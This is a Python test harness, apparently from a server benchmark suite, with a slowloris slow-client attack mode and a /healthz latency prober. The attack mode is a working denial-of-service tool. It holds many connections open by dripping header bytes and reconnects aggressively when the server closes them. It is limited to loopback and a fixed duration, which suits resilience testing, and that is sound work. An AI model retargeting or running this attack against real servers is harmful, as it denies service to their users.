#!/usr/bin/env python3
"""Slow-client attacker and /healthz prober for bench/hostile/slowloris.sh.

  slowloris.py attack --port P --conns 1000 --duration 60
      Holds CONNS connections to 127.0.0.1:P. Each sends the start of a
      request head and then one more header byte a second, and is reopened
      at once whenever the server closes it (the aggressive variant: it
      notices the close on its next read event, not its next byte). Prints
      one JSON line: connects, reconnects, the mean number held open.

  slowloris.py probe --port P --duration 60 --interval 0.2
      Every INTERVAL seconds: connect, GET /healthz, read the answer (5 s
      timeout). Prints one JSON line: probes, answered with 200, latency
      percentiles (ms), how many took 1 s or more, failures by kind.

Loopback only; every loop is bounded by --duration.
"""
import argparse
import errno
import json
import selectors
import socket
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


def attack(port, conns, duration):
    sel = selectors.DefaultSelector()
    socks = {}  # fd -> [sock, connected]
    stats = {"connects": 0, "reconnects": 0, "connect_errors": 0}

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex(("127.0.0.1", port))
        if rc not in (0, errno.EINPROGRESS):
            stats["connect_errors"] += 1
            s.close()
            return False
        stats["connects"] += 1
        socks[s.fileno()] = [s, False]
        sel.register(s, selectors.EVENT_WRITE)
        return True

    def drop(fd):
        s = socks.pop(fd)[0]
        sel.unregister(s)
        s.close()

    for _ in range(conns):
        open_one()
    end = time.monotonic() + duration
    next_byte = time.monotonic() + 1.0
    held_samples = []
    while time.monotonic() < end:
        for key, ev in sel.select(timeout=0.05):
            fd = key.fd
            if fd not in socks:
                continue
            s, connected = socks[fd]
            if not connected:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    drop(fd)
                    stats["reconnects"] += 1
                    open_one()
                    continue
                socks[fd][1] = True
                try:
                    s.send(HEAD)
                except OSError:
                    pass
                sel.modify(s, selectors.EVENT_READ)
                continue
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:  # closed by the server: come back at once
                drop(fd)
                stats["reconnects"] += 1
                open_one()
        while len(socks) < conns and open_one():
            pass
        now = time.monotonic()
        if now >= next_byte:
            next_byte = now + 1.0
            held = 0
            for fd, (s, connected) in list(socks.items()):
                if connected:
                    held += 1
                    try:
                        s.send(b"a")
                    except OSError:
                        pass
            held_samples.append(held)
    for fd in list(socks):
        drop(fd)
    stats["held_mean"] = round(sum(held_samples) / len(held_samples), 1) if held_samples else 0
    stats["conns"] = conns
    print(json.dumps(stats), flush=True)


def probe(port, duration, interval):
    lat, fails = [], {}
    end = time.monotonic() + duration
    while time.monotonic() < end:
        t0 = time.monotonic()
        kind = None
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
                buf = b""
                while True:
                    d = s.recv(4096)
                    if not d:
                        break
                    buf += d
            if not buf.startswith(b"HTTP/1.1 200"):
                kind = "no_200"
        except socket.timeout:
            kind = "timeout"
        except ConnectionResetError:
            kind = "reset"
        except OSError as e:
            kind = errno.errorcode.get(e.errno, "oserror")
        took = (time.monotonic() - t0) * 1000
        if kind:
            fails[kind] = fails.get(kind, 0) + 1
        else:
            lat.append(took)
        rest = interval - (time.monotonic() - t0)
        if rest > 0:
            time.sleep(rest)
    lat.sort()

    def pct(p):
        return round(lat[min(len(lat) - 1, int(p / 100 * len(lat)))], 2) if lat else None

    print(json.dumps({
        "probes": len(lat) + sum(fails.values()), "answered_200": len(lat),
        "p50_ms": pct(50), "p99_ms": pct(99), "max_ms": round(lat[-1], 2) if lat else None,
        "over_1s": sum(1 for x in lat if x >= 1000), "failures": fails}), flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["attack", "probe"])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--duration", type=float, default=60)
    ap.add_argument("--interval", type=float, default=0.2)
    a = ap.parse_args()
    if a.mode == "attack":
        attack(a.port, a.conns, a.duration)
    else:
        probe(a.port, a.duration, a.interval)


if __name__ == "__main__":
    main()
